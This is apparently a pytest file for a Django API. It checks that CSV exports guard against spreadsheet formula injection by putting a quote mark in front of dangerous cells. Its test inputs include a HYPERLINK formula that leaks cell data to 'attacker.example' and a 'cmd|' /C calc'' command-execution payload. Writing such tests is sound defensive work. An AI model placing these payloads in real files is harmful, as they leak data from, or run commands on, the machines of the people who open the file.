"""CSV answers and release files never hand a spreadsheet a formula (OWASP "CSV Injection", issue 14).

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a line feed gets a ``'`` in
front; every text cell is quoted, so that no comma, quote or line break inside a value starts a new cell
or row; numbers (and text that is a plain number, such as ``-1``) are left as they are.
"""

import csv
import decimal
import io

import pytest
from django.core.management import call_command

from api.renderers import write_csv
from tests import factories
from tests.api_testing import content_of

# Text that a spreadsheet would run as a formula, one per character OWASP lists.
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"details")',
    "+1+cmd|' /C calc'!A0",
    "-1+A1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


def read_rows(text: str) -> list[list[str]]:
    # newline="" as the csv module asks: a line break inside a quoted cell stays part of the cell.
    return list(csv.reader(io.StringIO(text, newline="")))


def as_written(value) -> str:
    """The one cell of ``value`` exactly as write_csv puts it in the file (the line after the header)."""
    return write_csv(["value"], [{"value": value}]).split("\n", 1)[1].removesuffix("\n")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        # Each character OWASP lists, at the start of a cell: the cell starts with a quote mark instead.
        ("=1+1", '"\'=1+1"'),
        ("+1+1", '"\'+1+1"'),
        ("-1+A1", '"\'-1+A1"'),
        ("@SUM(1)", '"\'@SUM(1)"'),
        ("\t=1+1", '"\'\t=1+1"'),
        ("\r=1+1", '"\'\r=1+1"'),
        ("\n=1+1", '"\'\n=1+1"'),
        # Quotes in the value are doubled inside the quoted cell, as RFC 4180 says.
        ('=HYPERLINK("http://x.example")', '"\'=HYPERLINK(""http://x.example"")"'),
        # A formula after a separator or a line break stays inside its quoted cell, and a carriage return
        # no longer ends the row (it did, unquoted, with "\n" line ends).
        ("notes\r=1+1", '"notes\r=1+1"'),
        ("a,=1+1", '"a,=1+1"'),
        ("a;=1+1", '"a;=1+1"'),
        # A list is neutralised item by item, so that splitting the cell on ";" gives no formula either.
        (["=1+1", "plain"], '"\'=1+1;plain"'),
        (["plain", "-x"], '"plain;\'-x"'),
        # A nested record is its slug, neutralised like any text.
        ({"slug": "-x", "name": "X"}, '"\'-x"'),
        # Text that starts like nothing dangerous is only quoted.
        ("plain text", '"plain text"'),
        ("'=1+1", '"\'=1+1"'),
        # Text that is a plain number is no formula: it stays as it is.
        ("-1", '"-1"'),
        ("-0.5", '"-0.5"'),
        # But text that only starts like a number is a formula.
        ("-1-1", '"\'-1-1"'),
        ("-1.5+A1", '"\'-1.5+A1"'),
    ],
)
def test_write_csv_neutralises_text_cells(value, cell):
    assert as_written(value) == cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [(-5, "-5"), (decimal.Decimal("-1.50"), "-1.50"), (-2.5, "-2.5"), (0, "0"), (12_000_000_000, "12000000000")],
)
def test_write_csv_leaves_numbers_as_numbers(value, cell):
    # A guard against neutralising too much: a negative number is a number, not a formula, and a spreadsheet
    # must still read it as one (bare, with no quote mark).
    assert as_written(value) == cell


def test_write_csv_cells_read_back_as_the_value_with_one_quote_mark_in_front():
    columns = [f"c{number}" for number in range(len(FORMULAS))]
    text = write_csv(columns, [dict(zip(columns, FORMULAS, strict=True))])
    header, row = read_rows(text)
    assert header == columns
    assert row == ["'" + formula for formula in FORMULAS]


@pytest.mark.django_db
class TestAPI:
    """?format=csv: the dangerous cells of published records, through the renderer."""

    @pytest.fixture
    def records(self):
        developer = factories.make_organization(
            slug="evil-lab",
            name=FORMULAS[0],
            description="@SUM(1+1)*cmd|' /C calc'!A0",
            aliases="-2+3\nplain alias",
        )
        releases = {
            f"model-{number}": factories.make_model_release(
                slug=f"model-{number}", developer=developer, notes=formula
            ).notes
            for number, formula in enumerate(FORMULAS)
        }
        releases["model-row-break"] = factories.make_model_release(
            slug="model-row-break", developer=developer, notes="line one\r=1+1"
        ).notes
        releases["model-number-text"] = factories.make_model_release(
            slug="model-number-text", developer=developer, notes="-1"
        ).notes
        factories.make_chip(slug="big-chip", memory_gb=decimal.Decimal("80.0"), tpp=4800)
        return releases

    def test_organization_cells_start_with_a_quote_mark(self, client, records):
        header, *rows = read_rows(content_of(client.get("/api/v1/organizations/?format=csv")).decode())
        (row,) = [dict(zip(header, row, strict=True)) for row in rows if row[0] == "evil-lab"]
        assert row["name"] == "'" + FORMULAS[0]
        assert row["description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert row["aliases"] == "'-2+3;plain alias"

    def test_model_release_notes_start_with_a_quote_mark(self, client, records):
        header, *rows = read_rows(content_of(client.get("/api/v1/model-releases/?format=csv")).decode())
        notes = {row[0]: dict(zip(header, row, strict=True))["notes"] for row in rows}
        # One row per record: the carriage return in a note did not start a new row.
        assert set(notes) == set(records)
        for slug, original in records.items():
            if slug == "model-row-break":
                assert notes[slug] == original
            elif slug == "model-number-text":
                assert notes[slug] == "-1"
            else:
                assert notes[slug] == "'" + original, slug

    def test_one_record_as_csv_too(self, client, records):
        header, row = read_rows(client.get("/api/v1/model-releases/model-2/?format=csv").content.decode())
        assert dict(zip(header, row, strict=True))["notes"] == "'-1+A1"

    def test_chip_figures_stay_numbers(self, client, records):
        text = content_of(client.get("/api/v1/chips/?format=csv")).decode()
        header, *rows = read_rows(text)
        (row,) = [dict(zip(header, row, strict=True)) for row in rows if row[0] == "big-chip"]
        assert row["memory_gb"] == "80.0"
        assert row["tpp"] == "4800"
        # Bare in the file, not quoted as text.
        assert ",80.0," in text and ",4800," in text

    def test_release_files_hold_the_same_neutralised_cells(self, records, tmp_path):
        call_command("export_dataset", str(tmp_path), stdout=io.StringIO())
        header, *rows = read_rows((tmp_path / "organizations.csv").read_bytes().decode())
        (row,) = [dict(zip(header, row, strict=True)) for row in rows if row[0] == "evil-lab"]
        assert row["name"] == "'" + FORMULAS[0]
        assert row["aliases"] == "'-2+3;plain alias"
        header, *rows = read_rows((tmp_path / "model-releases.csv").read_bytes().decode())
        notes = {row[0]: dict(zip(header, row, strict=True))["notes"] for row in rows}
        assert set(notes) == set(records)
        assert [notes[f"model-{number}"] for number in range(len(FORMULAS))] == ["'" + f for f in FORMULAS]
        assert notes["model-row-break"] == "line one\r=1+1"
        assert notes["model-number-text"] == "-1"
        chips_text = (tmp_path / "chips.csv").read_bytes().decode()
        assert ",80.0," in chips_text and ",4800," in chips_text
